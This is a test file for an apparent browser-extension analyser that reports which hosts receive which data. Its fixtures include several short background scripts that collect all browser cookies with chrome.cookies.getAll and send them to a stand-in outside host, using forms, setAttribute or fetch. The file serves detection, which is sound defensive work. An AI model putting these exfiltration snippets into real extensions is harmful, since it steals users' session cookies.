import { expect, it } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { destinationsOf } from './destinationsOf.ts';

it('says which host gets what', async () => {
  const facts = await factsOf({
    files: {
      'manifest.json':
        '{"manifest_version": 3, "homepage_url": "https://www.mine.io/", "permissions": ["cookies"], "background": {"service_worker": "bg.js"}}',
      'bg.js': `chrome.cookies.getAll({}, (list) => {
  fetch('https://api.mine.io/in', { method: 'POST', body: JSON.stringify(list) });
});
fetch('https://rates.other.io/today').then((answer) => answer.json()).then(show);`,
    },
  });
  expect(destinationsOf(facts, [])).toMatchObject([
    { host: 'api.mine.io', purpose: "the publisher's own server", sends: ['cookies'], insecure: false },
    { host: 'rates.other.io', purpose: 'unknown', sends: [] },
  ]);
});

const MANIFEST =
  '{"manifest_version": 2, "permissions": ["cookies", "<all_urls>"], "background": {"scripts": ["bg.js"]}}';

it('says what a form of the background takes with it, however the form is made', async () => {
  const form = `const form = document.createElement('form'); const field = document.createElement('input');`;
  const all = 'chrome.cookies.getAll({}, (list) => {';
  for (const code of [
    `${all} ${form} form.action = 'https://in.other.io/f'; field.value = JSON.stringify(list); form.submit(); });`,
    `${all} ${form} form.setAttribute('action', 'https://in.other.io/f'); field.setAttribute('value', JSON.stringify(list)); form.submit(); });`,
    `${all} const p = new URLSearchParams(); p.set('c', JSON.stringify(list)); fetch('https://in.other.io/f', { method: 'POST', body: p.toString() }); });`,
  ]) {
    const facts = await factsOf({ files: { 'manifest.json': MANIFEST, 'bg.js': code } });
    expect(destinationsOf(facts, []), code).toMatchObject([{ host: 'in.other.io', sends: ['cookies'] }]);
  }
});

it('names the host of a form that stands in markup', async () => {
  const code = `document.body.innerHTML = '<form method="post" action="https://in.other.io/f"><input name="c"></form>';`;
  const facts = await factsOf({ files: { 'manifest.json': MANIFEST, 'bg.js': code } });
  expect(destinationsOf(facts, []).map(({ host }) => host)).toEqual(['in.other.io']);
});

it('names what the data files list that its code reads, and each place once', async () => {
  const lists = {
    easylist: {
      title: 'One list',
      supportURL: 'https://forum.people.io/',
      contentURL: ['https://lists.first.io/easylist.txt', 'assets/easylist.txt'],
      cdnURLs: ['https://a.cdn.io/easylist.txt', 'https://b.cdn.io/easylist.txt'],
    },
    other: { contentURL: 'https://lists.first.io/other.txt' },
  };
  const files = {
    'manifest.json': MANIFEST,
    'bg.js': `fetch('/assets/assets.json').then((answer) => answer.json()).then(update);`,
    'assets/assets.json': JSON.stringify(lists, undefined, 2),
    'assets/unread.json': '{"url": "https://nobody.asks.io/"}',
    '_locales/en/messages.json': '{"url": {"message": "https://shown.io/"}}',
  };
  const found = destinationsOf(await factsOf({ files }), []);
  expect(found.map(({ host }) => host)).toEqual(['a.cdn.io', 'b.cdn.io', 'lists.first.io']);
  expect(found[2]?.places).toMatchObject([{ path: 'assets/assets.json', line: 6 }]);
});
